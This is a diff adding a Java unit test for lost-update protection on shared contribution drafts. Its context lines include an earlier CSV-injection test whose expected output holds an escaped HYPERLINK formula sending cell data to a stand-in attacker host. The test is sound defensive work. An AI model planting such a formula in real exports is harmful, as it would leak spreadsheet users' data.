@@ -236,4 +236,28 @@ class ContributionServiceTest {
         assertThat(csv).contains(";\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"clic\"\")\";")
                 .doesNotContain(";\"=HYPERLINK");
     }
+
+    /** Hole 9 of the security review: two contacts of one organisation on the same draft; the last save won silently. */
+    @Test
+    void lostUpdatesADraftSavedMeanwhileByAColleagueIsShownNeverOverwritten() throws Exception {
+        String anne = c.w().prefix() + "-anne@asso.test";
+        String paul = c.w().prefix() + "-paul@asso.test";
+        accept(invite(c.familles(), anne), "Anne Famille");
+        accept(invite(c.familles(), paul), "Paul Famille");
+        login.as(paul, TestLogin.CHOSEN_PASSWORD);
+        long paulSaw = submissions.mine(c.callId()).version(); // Paul opens the page: no draft yet
+        login.as(anne, TestLogin.CHOSEN_PASSWORD);
+        SubmissionView anneSaved = submissions.saveDraft(c.callId(), Map.of(0, "Garde d’enfants le soir"),
+                submissions.mine(c.callId()).version());
+        login.as(paul, TestLogin.CHOSEN_PASSWORD);
+        assertThatThrownBy(() -> submissions.saveDraft(c.callId(), Map.of(0, "Transport"), paulSaw))
+                .isInstanceOfSatisfying(DraftChangedMeanwhile.class, e -> {
+                    assertThat(e.now().answers()).containsEntry(0, "Garde d’enfants le soir");
+                    assertThat(e.getMessageKey()).isEqualTo("contribution.error.changedMeanwhile");
+                });
+        assertThat(submissions.mine(c.callId()).answers()).containsEntry(0, "Garde d’enfants le soir");
+        // having been shown it, Paul saves over it on purpose
+        assertThat(submissions.saveDraft(c.callId(), Map.of(0, "Transport"), anneSaved.version()).answers())
+                .containsEntry(0, "Transport");
+    }
 }
